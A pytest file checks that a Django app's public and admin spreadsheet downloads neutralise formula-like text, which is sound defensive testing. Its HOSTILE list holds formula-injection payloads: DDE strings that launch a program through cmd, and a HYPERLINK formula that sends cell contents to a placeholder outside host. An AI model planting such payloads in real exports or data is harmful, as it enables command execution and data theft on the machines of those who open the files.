"""No download, public or admin, ever writes a cell that a spreadsheet would run as a formula."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Group, User

from cases import roles
from cases.models import Agency, AgencyAlias, Case, Metric, Responsibility, Theme
from cases.spreadsheet_formats import starts_formula
from tests.forms import form_data

pytestmark = pytest.mark.django_db

HOSTILE = [
    '==HYPERLINK("http://example.com/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]

PUBLIC_DOWNLOADS = [
    "/cases/download.{fmt}",
    "/cases/metrics.{fmt}",
    "/agencies/download.{fmt}",
    "/responsibilities/download.{fmt}",
    "/adoption/matrix.{fmt}",
]
ADMIN_EXPORTS = ["case", "metric", "agency", "responsibility"]


@pytest.fixture
def hostile_catalog(seed):
    """Every kind of text a download carries starts like a formula somewhere."""
    case = Case.objects.get(batch=4, number=1)
    Case.objects.filter(pk=case.pk).update(title=HOSTILE[0], subtitle=HOSTILE[4])
    Case.objects.filter(batch=4, number=2).update(title=HOSTILE[5])
    agency = case.case_agencies.first().agency
    Agency.objects.filter(pk=agency.pk).update(name=HOSTILE[1])
    AgencyAlias.objects.create(agency=agency, name=HOSTILE[2])
    theme = Theme.objects.first()
    Theme.objects.filter(pk=theme.pk).update(name=HOSTILE[3])
    case.themes.add(theme)
    Metric.objects.filter(case=case, position=1).update(label=HOSTILE[6], period=HOSTILE[2])
    Responsibility.objects.filter(case=case).update(note=HOSTILE[3])
    return case


def xlsx_cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml, f"a formula element in {name}"
                assert "<f " not in xml, f"a formula element in {name}"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(content: bytes) -> set[str]:
    texts = set()
    for cell in xlsx_cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.add(cell.value)
            if starts_formula(cell.value):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.quotePrefix, (cell.coordinate, cell.value)
    return texts


def assert_csv_safe(content: bytes) -> set[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    texts = set()
    for row in csv.reader(io.StringIO(text[1:], newline="")):
        for cell in row:
            assert not starts_formula(cell), cell
            texts.add(cell[1:] if cell.startswith("'") else cell)
    return texts


@pytest.mark.parametrize("url", PUBLIC_DOWNLOADS)
def test_public_downloads_write_formula_like_text_as_text(client, hostile_catalog, url):
    found = assert_xlsx_safe(client.get(url.format(fmt="xlsx")).getvalue())
    found_csv = assert_csv_safe(client.get(url.format(fmt="csv")).getvalue())
    hostile_here = {h for h in HOSTILE if any(h in t for t in found)}
    assert hostile_here, "the download carries none of the hostile texts: the test proves nothing"
    assert hostile_here <= {h for h in HOSTILE if any(h in t for t in found_csv)}


@pytest.fixture
def editor(client, db):
    user = User.objects.create_user("editor", is_staff=True)
    user.groups.set([Group.objects.get(name=roles.EDITOR)])
    client.force_login(user)
    return user


@pytest.mark.parametrize("model", ADMIN_EXPORTS)
@pytest.mark.parametrize(("fmt", "index"), [("xlsx", "0"), ("csv", "1")])
def test_admin_exports_write_formula_like_text_as_text(client, editor, hostile_catalog, model, fmt, index):
    page = client.get(f"/admin/cases/{model}/export/")
    assert page.status_code == 200
    data = form_data(page.content.decode().replace('<form action=""', '<form action="/export/"'), action="/export/")
    data["format"] = [index]
    response = client.post(f"/admin/cases/{model}/export/", data)
    assert response.status_code == 200
    found = assert_xlsx_safe(response.content) if fmt == "xlsx" else assert_csv_safe(response.content)
    assert any(h in text for h in HOSTILE for text in found), model


def test_control_characters_are_dropped_instead_of_failing_the_download(client, seed):
    Case.objects.filter(batch=4, number=3).update(title="注销\x01\x1b[31m便利")
    response = client.get("/cases/download.xlsx")
    assert response.status_code == 200
    assert "注销[31m便利" in assert_xlsx_safe(response.content)


def test_numbers_stay_numbers_and_the_sheet_has_a_chinese_name(client, seed):
    content = client.get("/cases/metrics.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert re.fullmatch(r"[\u4e00-\u9fff]+", sheet.title)
    header = [c.value for c in sheet[1]]
    values = [row[header.index("数值")].value for row in sheet.iter_rows(min_row=2)]
    assert values
    assert all(isinstance(v, int | float) for v in values)
    assert sheet.column_dimensions["B"].width > 10  # wide enough for a Chinese title
